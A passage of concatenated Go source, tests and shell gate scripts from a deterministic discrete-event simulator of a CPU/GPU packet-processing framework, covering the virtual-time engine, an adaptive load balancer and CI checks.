    "$tracedir/corrupt-armed.json" > "$tracedir/corrupt-leak.json"
go run ./cmd/nbachaos replay "$tracedir/corrupt-armed.json"
rc=0
go run ./cmd/nbachaos replay "$tracedir/corrupt-leak.json" || rc=$?
if [[ "$rc" != 1 ]]; then
    echo "disarmed corruption replay exited $rc, want 1 (corrupt.leak violation)" >&2
    exit 1
fi
echo "corrupt.leak reproduced with sampling disarmed (replay exit 1, as contracted)"

echo "==> chaos parallel equivalence (same sweep, 8 workers, byte-identical digest)"
d1=$(go run ./cmd/nbachaos sweep -seeds 2 -base 1 -parallel 1 -digest-only)
d8=$(go run ./cmd/nbachaos sweep -seeds 2 -base 1 -parallel 8 -digest-only)
if [[ "$d1" != "$d8" ]]; then
    echo "chaos sweep digest diverged across parallelism: serial $d1 vs parallel-8 $d8" >&2
    exit 1
fi
echo "chaos digest stable at parallelism 1 and 8: $d1"

echo "==> chaos tenant parallel equivalence (per-tenant digests fold into the combined digest)"
t1=$(go run ./cmd/nbachaos sweep -seeds 2 -base 1 -tenants 2 -parallel 1 -digest-only)
t8=$(go run ./cmd/nbachaos sweep -seeds 2 -base 1 -tenants 2 -parallel 8 -digest-only)
if [[ "$t1" != "$t8" ]]; then
    echo "tenant chaos sweep digest diverged across parallelism: serial $t1 vs parallel-8 $t8" >&2
    exit 1
fi
echo "tenant chaos digest stable at parallelism 1 and 8: $t1"

if [[ "${PERF_GATE:-0}" == "1" ]]; then
    echo "==> perf gate (PERF_GATE=1: sim-sec/s vs committed BENCH_*.json baseline)"
    scripts/perf_gate.sh
else
    echo "==> perf gate skipped (set PERF_GATE=1 to compare against the committed baseline)"
fi

echo "check.sh: all gates passed"
