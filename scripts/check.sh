#!/usr/bin/env bash
# check.sh — the one-command tier-1+ gate.
#
# Runs, in order:
#   1. gofmt -l           formatting (whole tree, fixtures included)
#   2. go vet ./...       stdlib vet analyzers
#   3. go build ./...     everything compiles
#   4. nbalint ./...      framework determinism & invariant lint (cmd/nbalint)
#   5. go test -race ...  full test suite under the race detector
#
# The race run doubles as the regression tripwire for future parallel-worker
# PRs: the engine is single-threaded by design, so any data race is new code
# breaking the simulation contract.
set -euo pipefail
cd "$(dirname "$0")/.."

echo "==> gofmt"
unformatted=$(gofmt -l .)
if [[ -n "$unformatted" ]]; then
    echo "gofmt: the following files need formatting:" >&2
    echo "$unformatted" >&2
    exit 1
fi

echo "==> go vet ./..."
go vet ./...

echo "==> go build ./..."
go build ./...

echo "==> nbalint ./..."
go run ./cmd/nbalint ./...

echo "==> go test -race ./..."
go test -race ./...

echo "check.sh: all gates passed"
