package simtime

import (
	"testing"
	"testing/quick"
)

func TestTimeConversions(t *testing.T) {
	if Second.Seconds() != 1.0 {
		t.Errorf("Second.Seconds() = %v, want 1", Second.Seconds())
	}
	if Microsecond.Micros() != 1.0 {
		t.Errorf("Microsecond.Micros() = %v, want 1", Microsecond.Micros())
	}
	if (2 * Millisecond).Nanos() != 2e6 {
		t.Errorf("2ms in ns = %v, want 2e6", (2 * Millisecond).Nanos())
	}
}

func TestTimeString(t *testing.T) {
	cases := []struct {
		t    Time
		want string
	}{
		{500 * Picosecond, "500ps"},
		{3 * Nanosecond, "3ns"},
		{43 * Microsecond, "43us"},
		{200 * Millisecond, "200ms"},
		{2 * Second, "2s"},
	}
	for _, c := range cases {
		if got := c.t.String(); got != c.want {
			t.Errorf("(%d).String() = %q, want %q", int64(c.t), got, c.want)
		}
	}
}

func TestCyclesToTime(t *testing.T) {
	// 2.6 GHz: one cycle is ~384.6 ps; 26 cycles are exactly 10 ns.
	if got := CyclesToTime(26, 2.6e9); got != 10*Nanosecond {
		t.Errorf("26 cycles @2.6GHz = %v, want 10ns", got)
	}
	// 1 GHz: one cycle is exactly 1 ns.
	if got := CyclesToTime(1000, 1e9); got != Microsecond {
		t.Errorf("1000 cycles @1GHz = %v, want 1us", got)
	}
	if got := CyclesToTime(0, 1e9); got != 0 {
		t.Errorf("0 cycles = %v, want 0", got)
	}
	if got := CyclesToTime(-5, 1e9); got != 0 {
		t.Errorf("negative cycles = %v, want 0", got)
	}
}

func TestCyclesToTimeRoundsUp(t *testing.T) {
	// One cycle at 2.6GHz is 384.61...ps and must round up to 385.
	if got := CyclesToTime(1, 2.6e9); got != 385*Picosecond {
		t.Errorf("1 cycle @2.6GHz = %v, want 385ps", got)
	}
}

func TestCyclesTimeRoundTripProperty(t *testing.T) {
	// For any positive cycle count, converting to time and back never loses
	// more than one cycle (round-up on the way out, round-down back).
	f := func(c uint32) bool {
		cy := Cycles(c%1_000_000 + 1)
		back := TimeToCycles(CyclesToTime(cy, 2.6e9), 2.6e9)
		return back >= cy-1 && back <= cy+1
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestEngineOrdering(t *testing.T) {
	e := NewEngine()
	var order []int
	e.At(30, func() { order = append(order, 3) })
	e.At(10, func() { order = append(order, 1) })
	e.At(20, func() { order = append(order, 2) })
	e.Run()
	if len(order) != 3 || order[0] != 1 || order[1] != 2 || order[2] != 3 {
		t.Errorf("order = %v, want [1 2 3]", order)
	}
	if e.Now() != 30 {
		t.Errorf("Now = %v, want 30", e.Now())
	}
}

func TestEngineTieBreakBySchedulingOrder(t *testing.T) {
	e := NewEngine()
	var order []int
	for i := 0; i < 10; i++ {
		i := i
		e.At(100, func() { order = append(order, i) })
	}
	e.Run()
	for i, v := range order {
		if v != i {
			t.Fatalf("tie-broken order = %v, want ascending schedule order", order)
		}
	}
}

func TestEngineNestedScheduling(t *testing.T) {
	e := NewEngine()
	var hits int
	var loop func()
	loop = func() {
		hits++
		if hits < 5 {
			e.After(10, loop)
		}
	}
	e.After(0, loop)
	e.Run()
	if hits != 5 {
		t.Errorf("hits = %d, want 5", hits)
	}
	if e.Now() != 40 {
		t.Errorf("Now = %v, want 40", e.Now())
	}
}

func TestEngineRunUntil(t *testing.T) {
	e := NewEngine()
	var fired []Time
	for _, at := range []Time{10, 20, 30, 40} {
		at := at
		e.At(at, func() { fired = append(fired, at) })
	}
	e.RunUntil(25)
	if len(fired) != 2 {
		t.Fatalf("fired = %v, want events at 10,20", fired)
	}
	if e.Now() != 25 {
		t.Errorf("Now = %v, want 25", e.Now())
	}
	e.RunUntil(100)
	if len(fired) != 4 {
		t.Errorf("fired = %v, want 4 events", fired)
	}
	if e.Now() != 100 {
		t.Errorf("Now = %v, want 100", e.Now())
	}
}

func TestEngineSchedulePastPanics(t *testing.T) {
	e := NewEngine()
	e.At(50, func() {})
	e.Run()
	defer func() {
		if recover() == nil {
			t.Error("scheduling in the past did not panic")
		}
	}()
	e.At(10, func() {})
}

func TestTimerCancel(t *testing.T) {
	e := NewEngine()
	var fired bool
	tm := e.At(10, func() { fired = true })
	if !tm.Cancel() {
		t.Error("first Cancel returned false")
	}
	if tm.Cancel() {
		t.Error("second Cancel returned true")
	}
	e.Run()
	if fired {
		t.Error("cancelled event fired")
	}
	if e.Len() != 0 {
		t.Errorf("Len = %d, want 0", e.Len())
	}
}

func TestTimerZeroValueCancelIsNoOp(t *testing.T) {
	var tm Timer
	if tm.Cancel() {
		t.Error("Cancel on zero Timer returned true")
	}
}

func TestStaleTimerDoesNotCancelRecycledEvent(t *testing.T) {
	e := NewEngine()
	var firstFired bool
	stale := e.At(10, func() { firstFired = true })
	e.Run()
	if !firstFired {
		t.Fatal("first event did not fire")
	}
	// The fired event's storage is now on the free list; the next schedule
	// reuses it with a bumped generation.
	var secondFired bool
	e.At(20, func() { secondFired = true })
	if stale.Cancel() {
		t.Error("stale Timer cancelled a recycled event")
	}
	e.Run()
	if !secondFired {
		t.Error("recycled event did not fire")
	}
}

func TestScheduleSteadyStateAllocs(t *testing.T) {
	e := NewEngine()
	fn := func() {}
	// Warm the free list: after this, every schedule/fire cycle reuses a
	// recycled event.
	for i := 0; i < 64; i++ {
		e.After(Time(i), fn)
	}
	e.Run()
	allocs := testing.AllocsPerRun(200, func() {
		for i := 0; i < 32; i++ {
			e.After(Time(i), fn)
		}
		e.Run()
	})
	if allocs != 0 {
		t.Errorf("steady-state schedule/run allocates %v per run, want 0", allocs)
	}
}

func TestEngineStop(t *testing.T) {
	e := NewEngine()
	var count int
	var loop func()
	loop = func() {
		count++
		if count == 3 {
			e.Stop()
		}
		e.After(10, loop)
	}
	e.After(0, loop)
	e.Run()
	if count != 3 {
		t.Errorf("count = %d, want 3", count)
	}
}

func TestEngineNegativeAfterClampsToNow(t *testing.T) {
	e := NewEngine()
	var fired bool
	e.At(100, func() {
		e.After(-50, func() { fired = true })
	})
	e.Run()
	if !fired {
		t.Error("event scheduled with negative delay did not fire")
	}
}

func BenchmarkEngineScheduleAndRun(b *testing.B) {
	e := NewEngine()
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		e.After(Time(i%1000), func() {})
		if e.Len() > 10000 {
			e.Run()
		}
	}
	e.Run()
}
