// Package simtime provides the deterministic discrete-event virtual-time
// engine that underlies the NBA simulation substrate.
//
// All performance-sensitive behaviour in this reproduction (worker IO loops,
// GPU command queues, NIC arrival processes, load-balancer update timers) is
// expressed as events on a single virtual clock. Ties are broken by schedule
// order, so a run is a pure function of its inputs: the same configuration
// and seed always produce bit-identical results, independent of the host
// machine, the Go scheduler, and the garbage collector.
package simtime

import (
	"container/heap"
	"fmt"
)

// Time is a point in virtual time, measured in picoseconds. Picosecond
// resolution keeps CPU-cycle accounting exact: one cycle of a 2.6 GHz core is
// 384.6 ps and would be unrepresentable at nanosecond granularity without
// accumulating rounding error over millions of packets.
type Time int64

// Common durations.
const (
	Picosecond  Time = 1
	Nanosecond  Time = 1000 * Picosecond
	Microsecond Time = 1000 * Nanosecond
	Millisecond Time = 1000 * Microsecond
	Second      Time = 1000 * Millisecond
)

// Seconds returns t expressed in seconds.
func (t Time) Seconds() float64 { return float64(t) / float64(Second) }

// Micros returns t expressed in microseconds.
func (t Time) Micros() float64 { return float64(t) / float64(Microsecond) }

// Nanos returns t expressed in nanoseconds.
func (t Time) Nanos() float64 { return float64(t) / float64(Nanosecond) }

func (t Time) String() string {
	switch {
	case t >= Second:
		return fmt.Sprintf("%.6gs", t.Seconds())
	case t >= Millisecond:
		return fmt.Sprintf("%.6gms", float64(t)/float64(Millisecond))
	case t >= Microsecond:
		return fmt.Sprintf("%.6gus", t.Micros())
	case t >= Nanosecond:
		return fmt.Sprintf("%.6gns", t.Nanos())
	default:
		return fmt.Sprintf("%dps", int64(t))
	}
}

// Cycles counts CPU (or accelerator) clock cycles. Cycle costs are the unit
// of the calibrated cost model; they convert to Time through a core frequency.
type Cycles int64

// CyclesToTime converts a cycle count at the given frequency (Hz) to virtual
// time, rounding up so that charging a positive cost always advances time.
func CyclesToTime(c Cycles, hz float64) Time {
	if c <= 0 {
		return 0
	}
	ps := float64(c) * 1e12 / hz
	t := Time(ps)
	if float64(t) < ps {
		t++
	}
	return t
}

// TimeToCycles converts a duration at the given frequency (Hz) to whole
// cycles, rounding down.
func TimeToCycles(t Time, hz float64) Cycles {
	if t <= 0 {
		return 0
	}
	return Cycles(float64(t) / 1e12 * hz)
}

// event is a scheduled callback. Events are recycled through the engine's
// free list once fired or cancelled; gen disambiguates a recycled slot from
// the event a stale Timer still points at.
type event struct {
	at   Time
	seq  uint64 // schedule order; breaks ties deterministically
	fn   func()
	dead bool   // cancelled
	idx  int    // heap index, maintained by eventHeap
	gen  uint64 // bumped on every reuse; Timers carry the gen they were issued
}

// Timer is a handle to a scheduled event that can be cancelled. It is a
// small value (the zero Timer is valid and Cancel on it is a no-op), so
// holding one in a struct costs no allocation. A Timer outliving its event
// is safe: once the event fires, is cancelled, or its storage is recycled
// for a later event, Cancel becomes a no-op.
type Timer struct {
	ev  *event
	gen uint64
}

// Cancel prevents the callback from running. Cancelling an already-fired,
// already-cancelled or zero timer is a no-op. It reports whether the
// cancellation took effect.
func (t Timer) Cancel() bool {
	if t.ev == nil || t.ev.gen != t.gen || t.ev.dead {
		return false
	}
	t.ev.dead = true
	t.ev.fn = nil
	return true
}

type eventHeap []*event

func (h eventHeap) Len() int { return len(h) }
func (h eventHeap) Less(i, j int) bool {
	if h[i].at != h[j].at {
		return h[i].at < h[j].at
	}
	return h[i].seq < h[j].seq
}
func (h eventHeap) Swap(i, j int) {
	h[i], h[j] = h[j], h[i]
	h[i].idx = i
	h[j].idx = j
}
func (h *eventHeap) Push(x any) {
	ev := x.(*event)
	ev.idx = len(*h)
	*h = append(*h, ev)
}
func (h *eventHeap) Pop() any {
	old := *h
	n := len(old)
	ev := old[n-1]
	old[n-1] = nil
	*h = old[:n-1]
	return ev
}

// Engine is a single-threaded discrete-event simulation engine. It is not
// safe for concurrent use; all actors run interleaved on the virtual clock.
type Engine struct {
	now     Time
	seq     uint64
	events  eventHeap
	stopped bool
	// free recycles event structs: the steady-state schedule/fire cycle of
	// the worker and device loops allocates nothing once the free list is
	// warm (the hotalloc lint gate and TestScheduleSteadyStateAllocs pin
	// this).
	free []*event

	// Fired counts events executed; useful for progress/diagnostics.
	Fired uint64

	// OnFire, when non-nil, is invoked for every executed event just before
	// its callback runs, with the event's timestamp and its execution index
	// (the value Fired had when the event fired, counting from 1). It exists
	// for the trace observability layer; it must not schedule or cancel
	// events.
	OnFire func(at Time, fired uint64)
}

// NewEngine returns an engine with the clock at zero.
func NewEngine() *Engine { return &Engine{} }

// Now returns the current virtual time.
func (e *Engine) Now() Time { return e.now }

// At schedules fn to run at absolute virtual time t. Scheduling in the past
// panics: it always indicates a cost-accounting bug in the caller.
//
//nba:hotpath
func (e *Engine) At(t Time, fn func()) Timer {
	if t < e.now {
		panic(fmt.Sprintf("simtime: schedule at %v before now %v", t, e.now))
	}
	var ev *event
	if n := len(e.free); n > 0 {
		ev = e.free[n-1]
		e.free[n-1] = nil
		e.free = e.free[:n-1]
		ev.gen++
	} else {
		ev = &event{} //nbalint:allow hotalloc free-list warm-up; steady state reuses fired events
	}
	ev.at, ev.seq, ev.fn, ev.dead = t, e.seq, fn, false
	e.seq++
	heap.Push(&e.events, ev)
	return Timer{ev: ev, gen: ev.gen}
}

// After schedules fn to run d after the current time. Negative d is treated
// as zero.
//
//nba:hotpath
func (e *Engine) After(d Time, fn func()) Timer {
	if d < 0 {
		d = 0
	}
	return e.At(e.now+d, fn)
}

// Stop makes the current Run/RunUntil call return after the in-progress
// event completes.
func (e *Engine) Stop() { e.stopped = true }

// Len returns the number of pending (non-cancelled) events.
func (e *Engine) Len() int {
	n := 0
	for _, ev := range e.events {
		if !ev.dead {
			n++
		}
	}
	return n
}

// Run executes events in timestamp order until no events remain or Stop is
// called.
func (e *Engine) Run() {
	e.stopped = false
	for len(e.events) > 0 && !e.stopped {
		e.step()
	}
}

// RunUntil executes all events with timestamp <= t and then advances the
// clock to exactly t. It panics if t is in the past.
func (e *Engine) RunUntil(t Time) {
	if t < e.now {
		panic(fmt.Sprintf("simtime: RunUntil %v before now %v", t, e.now))
	}
	e.stopped = false
	for len(e.events) > 0 && !e.stopped && e.events[0].at <= t {
		e.step()
	}
	if !e.stopped && e.now < t {
		e.now = t
	}
}

//nba:hotpath
func (e *Engine) step() {
	ev := heap.Pop(&e.events).(*event)
	if ev.dead {
		e.free = append(e.free, ev) //nbalint:allow hotalloc free-list growth is bounded by peak pending events
		return
	}
	e.now = ev.at
	fn := ev.fn
	ev.fn = nil
	ev.dead = true
	// Recycle before running the callback: nothing references ev anymore,
	// and a callback scheduling a new event can reuse it immediately. Stale
	// Timers are fenced by the generation counter.
	e.free = append(e.free, ev) //nbalint:allow hotalloc free-list growth is bounded by peak pending events
	e.Fired++
	if e.OnFire != nil {
		e.OnFire(e.now, e.Fired)
	}
	fn()
}
