package lb

import (
	"math"
	"testing"

	"nba/internal/batch"
	"nba/internal/element"
	"nba/internal/rng"
)

func newCtx(ndev int) (*element.ConfigContext, *element.ProcContext) {
	nl := element.NewNodeLocal()
	r := rng.New(5)
	return &element.ConfigContext{NodeLocal: nl, NumPorts: 4, NumDevices: ndev, Rand: r},
		&element.ProcContext{NodeLocal: nl, Rand: r, CostScale: 1}
}

func configured(t *testing.T, arg string, ndev int) (*LoadBalance, *element.ProcContext, *element.ConfigContext) {
	t.Helper()
	cc, pc := newCtx(ndev)
	e := &LoadBalance{}
	if err := e.Configure(cc, []string{arg}); err != nil {
		t.Fatalf("Configure(%q): %v", arg, err)
	}
	return e, pc, cc
}

func TestRegistered(t *testing.T) {
	e, err := element.NewByClass("LoadBalance")
	if err != nil {
		t.Fatal(err)
	}
	if _, ok := e.(element.BatchElement); !ok {
		t.Fatal("LoadBalance is not a BatchElement")
	}
}

func TestCPUOnly(t *testing.T) {
	e, pc, _ := configured(t, "cpu", 1)
	for i := 0; i < 100; i++ {
		b := &batch.Batch{}
		e.ProcessBatch(pc, b)
		if b.Anno[batch.AnnoDevice] != batch.CPUDevice {
			t.Fatal("cpu policy routed to device")
		}
	}
	if e.Decisions[0] != 100 || e.Decisions[1] != 0 {
		t.Errorf("decisions = %v", e.Decisions)
	}
}

func TestGPUOnly(t *testing.T) {
	e, pc, _ := configured(t, "gpu", 1)
	b := &batch.Batch{}
	e.ProcessBatch(pc, b)
	if b.Anno[batch.AnnoDevice] != 1 {
		t.Error("gpu policy did not route to device 1")
	}
}

func TestFixedFraction(t *testing.T) {
	e, pc, _ := configured(t, "fixed=0.8", 1)
	const n = 50000
	for i := 0; i < n; i++ {
		e.ProcessBatch(pc, &batch.Batch{})
	}
	frac := float64(e.Decisions[1]) / n
	if math.Abs(frac-0.8) > 0.02 {
		t.Errorf("offloaded fraction = %v, want ~0.8", frac)
	}
}

func TestAdaptiveFollowsSharedState(t *testing.T) {
	e, pc, cc := configured(t, "adaptive", 1)
	st := SharedState(cc.NodeLocal)
	st.W = 0
	for i := 0; i < 1000; i++ {
		e.ProcessBatch(pc, &batch.Batch{})
	}
	if e.Decisions[1] != 0 {
		t.Error("W=0 but batches offloaded")
	}
	st.W = 1
	for i := 0; i < 1000; i++ {
		e.ProcessBatch(pc, &batch.Batch{})
	}
	if e.Decisions[1] != 1000 {
		t.Errorf("W=1: offloaded %d of 1000", e.Decisions[1])
	}
}

func TestConfigureErrors(t *testing.T) {
	cc, _ := newCtx(1)
	for _, args := range [][]string{nil, {"a", "b"}, {"bogus"}, {"fixed=2"}, {"fixed=x"}} {
		if err := (&LoadBalance{}).Configure(cc, args); err == nil {
			t.Errorf("config %v accepted", args)
		}
	}
	// Accelerator policies on a socket without devices must fail.
	ccNoDev, _ := newCtx(0)
	for _, arg := range []string{"gpu", "adaptive", "fixed=0.5"} {
		if err := (&LoadBalance{}).Configure(ccNoDev, []string{arg}); err == nil {
			t.Errorf("%q accepted without devices", arg)
		}
	}
	if err := (&LoadBalance{}).Configure(ccNoDev, []string{"cpu"}); err != nil {
		t.Errorf("cpu policy rejected without devices: %v", err)
	}
}

func TestControllerClimbsToOptimum(t *testing.T) {
	// Synthetic throughput landscape peaking at w=0.8 (the paper's Figure 2
	// shape): the controller must converge near the peak.
	st := &State{}
	c := NewController(st)
	landscape := func(w float64) float64 {
		return 18 - 12*(w-0.8)*(w-0.8) // Gbps-ish, max at 0.8
	}
	for step := 0; step < 3000; step++ {
		c.Observe(landscape(st.W))
		c.Update()
	}
	if math.Abs(st.W-0.8) > 0.15 {
		t.Errorf("converged W = %v, want ~0.8", st.W)
	}
	if len(c.Trace) == 0 {
		t.Error("no trace recorded")
	}
}

func TestControllerMonotoneLandscapes(t *testing.T) {
	// CPU-better workload: throughput decreases with w; W must fall to ~0.
	st := &State{}
	c := NewController(st)
	for step := 0; step < 2000; step++ {
		c.Observe(40 - 20*st.W)
		c.Update()
	}
	if st.W > 0.15 {
		t.Errorf("CPU-better: W = %v, want ~0", st.W)
	}

	// GPU-better workload: throughput increases with w; W must rise to ~1.
	st2 := &State{}
	c2 := NewController(st2)
	for step := 0; step < 4000; step++ {
		c2.Observe(20 + 20*st2.W)
		c2.Update()
	}
	if st2.W < 0.85 {
		t.Errorf("GPU-better: W = %v, want ~1", st2.W)
	}
}

func TestControllerReconvergesAfterWorkloadChange(t *testing.T) {
	// The paper inserts continuous perturbations so w can find a new
	// convergence point when the workload changes.
	st := &State{}
	c := NewController(st)
	peak := 0.2
	landscape := func(w float64) float64 { return 30 - 25*(w-peak)*(w-peak) }
	for step := 0; step < 2500; step++ {
		c.Observe(landscape(st.W))
		c.Update()
	}
	first := st.W
	if math.Abs(first-0.2) > 0.15 {
		t.Fatalf("phase 1: W = %v, want ~0.2", first)
	}
	peak = 0.9
	for step := 0; step < 6000; step++ {
		c.Observe(landscape(st.W))
		c.Update()
	}
	if math.Abs(st.W-0.9) > 0.15 {
		t.Errorf("after workload change: W = %v, want ~0.9", st.W)
	}
}

func TestControllerWaitRamp(t *testing.T) {
	st := &State{}
	c := NewController(st)
	// At high w the controller waits longer between moves.
	st.W = 1.0
	c.Observe(10)
	c.Update() // performs a move, sets wait
	moves := 0
	prev := st.W
	for i := 0; i < 20; i++ {
		c.Observe(10)
		c.Update()
		if st.W != prev {
			moves++
			prev = st.W
		}
	}
	if moves > 4 {
		t.Errorf("%d moves in 20 updates at w=1, want heavy waiting", moves)
	}
}

func TestUpdateEmptyWindowNoFlip(t *testing.T) {
	// Regression: Update resets the sample window every step, so a step
	// with no intervening Observe used to compare Mean()==0 against last
	// and spuriously flip the climb direction (and clobber last with 0).
	st := &State{}
	c := NewController(st)
	// Prime the controller as if it had been climbing on real samples.
	c.Observe(10)
	c.Update()
	if c.dir != +1 || c.last != 10 {
		t.Fatalf("setup: dir=%v last=%v, want +1/10", c.dir, c.last)
	}
	w0 := st.W
	// Force several control steps with dead observation windows (an outage,
	// or ALBUpdate outpacing ALBObserve).
	for i := 0; i < 5; i++ {
		c.wait = 0
		c.Update()
	}
	if c.dir != +1 {
		t.Error("direction flipped on empty observation windows")
	}
	if c.last != 10 {
		t.Errorf("last = %v, want 10 preserved across empty windows", c.last)
	}
	if st.W <= w0 {
		t.Errorf("W = %v, want continued climb past %v", st.W, w0)
	}
}
