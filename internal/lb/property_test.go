package lb

import (
	"math"
	"testing"
)

// drive runs n observe+update steps against a synthetic throughput
// landscape f(w).
func drive(c *Controller, st *State, f func(float64) float64, n int) {
	for i := 0; i < n; i++ {
		c.Observe(f(st.W))
		c.Update()
	}
}

func TestConvergesFromAnyStart(t *testing.T) {
	// From any starting fraction — both boundaries included — the
	// hill-climb must find the peak of a concave landscape within a bounded
	// number of updates.
	// Steep enough that a step past the peak drops throughput by more than
	// Tolerance, so the climb cannot wander far beyond it.
	const peak = 0.7
	f := func(w float64) float64 { return 40 - 60*(w-peak)*(w-peak) }
	for start := 0.0; start <= 1.0; start += 0.1 {
		st := &State{}
		c := NewController(st)
		st.W = start
		drive(c, st, f, 3000)
		if math.Abs(st.W-peak) > 0.15 {
			t.Errorf("start %.1f: converged W = %v, want ~%v", start, st.W, peak)
		}
	}
}

func TestBoundaryDwellGrowsMonotonically(t *testing.T) {
	// On a landscape whose optimum is the w=1 boundary, every rejected
	// perturbation must lengthen the dwell at the boundary (the paper's
	// gradually-increasing waiting interval), monotonically up to the cap.
	st := &State{}
	c := NewController(st)
	st.W = 1
	f := func(w float64) float64 { return 10 + 5*w }
	var departures []int // update indices where a perturbation left w=1
	prev := st.W
	for i := 0; i < 4000; i++ {
		c.Observe(f(st.W))
		c.Update()
		if prev == 1 && st.W < 1 {
			departures = append(departures, i)
		}
		prev = st.W
	}
	if len(departures) < 4 {
		t.Fatalf("only %d perturbations off the boundary in 4000 updates", len(departures))
	}
	gaps := make([]int, len(departures)-1)
	for i := 1; i < len(departures); i++ {
		gaps[i-1] = departures[i] - departures[i-1]
	}
	for i := 1; i < len(gaps); i++ {
		if gaps[i] < gaps[i-1] {
			t.Fatalf("dwell shrank: gaps %v", gaps)
		}
	}
	if gaps[len(gaps)-1] <= gaps[0] {
		t.Errorf("dwell never grew: gaps %v", gaps)
	}
}

func TestInfeasibleLatencyBoundParksAtZero(t *testing.T) {
	// When even w=0 cannot satisfy the latency bound, the bounded-latency
	// controller must park at w=0 (shed load) rather than oscillate.
	st := &State{}
	c := NewController(st)
	c.Bound = 100_000_000 // 100 us in ps
	for i := 0; i < 200; i++ {
		c.Observe(10)
		c.UpdateWithLatency(2 * c.Bound) // p99 always over bound
	}
	if st.W != 0 {
		t.Fatalf("W = %v after 200 infeasible steps, want parked at 0", st.W)
	}
	// And it stays parked while the bound remains infeasible.
	for i := 0; i < 50; i++ {
		c.Observe(10)
		c.UpdateWithLatency(2 * c.Bound)
		if st.W != 0 {
			t.Fatalf("W = %v left the park while still infeasible", st.W)
		}
	}
}

func TestReclimbsAfterFailuresStop(t *testing.T) {
	// Fault path: completion failures collapse W toward 0; once they stop
	// (device recovered), the perturbation must escape w=0 and the climb
	// must re-discover the interior optimum.
	const peak = 0.6
	f := func(w float64) float64 { return 40 - 60*(w-peak)*(w-peak) }
	st := &State{}
	c := NewController(st)
	drive(c, st, f, 2500)
	if math.Abs(st.W-peak) > 0.15 {
		t.Fatalf("pre-fault: W = %v, want ~%v", st.W, peak)
	}

	// Outage: every offloaded task fails. After a few collapse steps W must
	// pin at (or next to) zero and stay there for the whole outage.
	for i := 0; i < 300; i++ {
		c.NoteTaskFailures(3)
		c.Observe(f(0)) // CPU-only throughput, whatever W says
		c.Update()
		if i >= 5 && st.W > 0.1 {
			t.Fatalf("outage step %d: W = %v, want <= 0.1", i, st.W)
		}
	}

	// Recovery: failures stop, the landscape is back. W must re-climb.
	drive(c, st, f, 2500)
	if math.Abs(st.W-peak) > 0.15 {
		t.Errorf("post-recovery: W = %v, want re-climb to ~%v", st.W, peak)
	}
}
