// Package lb implements NBA's CPU/GPU load balancers (paper §3.4).
//
// Load balancers are per-batch elements placed ahead of offloadable
// elements: they write the chosen computation device into the batch-level
// device annotation, which the framework reads when the batch reaches an
// offloadable element (paper Figure 7).
//
// The adaptive algorithm (ALB) maximises system throughput without any
// application- or hardware-specific knowledge: it observes smoothed
// throughput and moves the offloading fraction w by ±δ in the direction
// that last improved it, with a waiting-interval ramp and continuous
// perturbation exactly as the paper describes.
package lb

import (
	"fmt"
	"math"
	"strconv"
	"strings"

	"nba/internal/batch"
	"nba/internal/element"
	"nba/internal/invariant"
	"nba/internal/packet"
	"nba/internal/simtime"
	"nba/internal/stats"
	"nba/internal/trace"
)

// StateKey is the node-local storage key of the shared balancing state.
const StateKey = "nba.lb.state"

// State is the balancing state shared between the per-worker LoadBalance
// element replicas and the socket's adaptive controller.
type State struct {
	// W is the offloading fraction in [0,1]: the probability that a batch
	// is routed to the accelerator.
	W float64
	// AdaptiveUsers counts LoadBalance replicas configured with the
	// adaptive algorithm; the framework only runs a controller when > 0.
	AdaptiveUsers int
}

// SharedState fetches (or creates) the socket's shared state.
func SharedState(nl *element.NodeLocal) *State {
	return element.GetOrCreate(nl, StateKey, func() *State { return &State{} })
}

// Algorithm selects the balancing policy of a LoadBalance element.
type Algorithm int

const (
	// CPUOnly processes everything with CPU-side functions.
	CPUOnly Algorithm = iota
	// GPUOnly offloads every batch (other elements still run on the CPU).
	GPUOnly
	// Fixed offloads a fixed fraction of batches (Figure 2's sweep).
	Fixed
	// Adaptive follows the shared state maintained by the Controller.
	Adaptive
)

// LoadBalance is the balancer element. Configuration parameter forms:
//
//	LoadBalance("cpu")        — CPU only
//	LoadBalance("gpu")        — GPU only
//	LoadBalance("fixed=0.8")  — offload 80% of batches
//	LoadBalance("adaptive")   — ALB (requires a Controller ticking)
type LoadBalance struct {
	Alg   Algorithm
	fixed float64
	state *State
	ndev  int

	// Decisions counts batches routed per destination (0 = CPU).
	Decisions [2]uint64
}

func init() {
	element.Register("LoadBalance", func() element.Element { return &LoadBalance{} })
}

// Class implements element.Element.
func (*LoadBalance) Class() string { return "LoadBalance" }

// OutPorts implements element.Element.
func (*LoadBalance) OutPorts() int { return 1 }

// Configure implements element.Element.
func (e *LoadBalance) Configure(ctx *element.ConfigContext, args []string) error {
	if len(args) != 1 {
		return fmt.Errorf("LoadBalance needs exactly one parameter, got %d", len(args))
	}
	e.state = SharedState(ctx.NodeLocal)
	e.ndev = ctx.NumDevices
	arg := args[0]
	switch {
	case arg == "cpu":
		e.Alg = CPUOnly
	case arg == "gpu":
		e.Alg = GPUOnly
	case arg == "adaptive":
		e.Alg = Adaptive
		e.state.AdaptiveUsers++ //nbalint:allow sharedstate parse-time count; admit-epoch parses run on the serial engine and NewSystem's read ran before Run started
	case strings.HasPrefix(arg, "fixed="):
		f, err := strconv.ParseFloat(strings.TrimPrefix(arg, "fixed="), 64)
		if err != nil || f < 0 || f > 1 {
			return fmt.Errorf("LoadBalance: bad fixed fraction %q", arg)
		}
		e.Alg = Fixed
		e.fixed = f
	default:
		return fmt.Errorf("LoadBalance: unknown algorithm %q", arg)
	}
	if e.Alg != CPUOnly && e.ndev == 0 {
		return fmt.Errorf("LoadBalance: %q requires an accelerator but the socket has none", arg)
	}
	return nil
}

// Process implements element.Element (unused: batches take ProcessBatch).
func (e *LoadBalance) Process(ctx *element.ProcContext, pkt *packet.Packet) int { return 0 }

// ProcessBatch stamps the device decision on the batch.
func (e *LoadBalance) ProcessBatch(ctx *element.ProcContext, b *batch.Batch) int {
	dev := batch.CPUDevice
	switch e.Alg {
	case CPUOnly:
	case GPUOnly:
		dev = 1
	case Fixed:
		if ctx.Rand.Bool(e.fixed) {
			dev = 1
		}
	case Adaptive:
		if ctx.Rand.Bool(e.state.W) {
			dev = 1
		}
	}
	b.Anno[batch.AnnoDevice] = uint64(dev)
	if dev == batch.CPUDevice {
		e.Decisions[0]++
	} else {
		e.Decisions[1]++
	}
	return 0
}

// Controller drives the adaptive algorithm for one socket. The framework
// calls Observe at a fine interval (throughput sampling) and Update every
// update interval (0.2 s in the paper).
